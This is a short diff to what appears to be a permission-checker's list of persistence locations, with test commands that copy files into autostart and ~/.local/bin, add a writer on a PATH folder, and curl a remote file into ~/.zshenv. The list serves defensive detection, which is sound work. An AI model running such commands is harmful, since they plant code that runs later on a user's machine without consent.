@@ -87,6 +87,7 @@ export const RUN_LATER_PLACES = section("C10", CODE, [
   { call: bash("cp -r src {home}/.config/autostart"), why: "a folder put there", grants: GRANTS },
   { call: bash("mv src {home}/.local/bin"), why: "a folder put there", grants: GRANTS },
   { call: bash("cp evil.txt {home}/.local/bin/"), why: "a file put into the folder", grants: GRANTS },
+  ...writersOn("{home}/tools/ls", "a folder of PATH"),
   {
     call: bash("curl -o {home}/.zshenv https://x.org/a"),
     why: "a download put there",
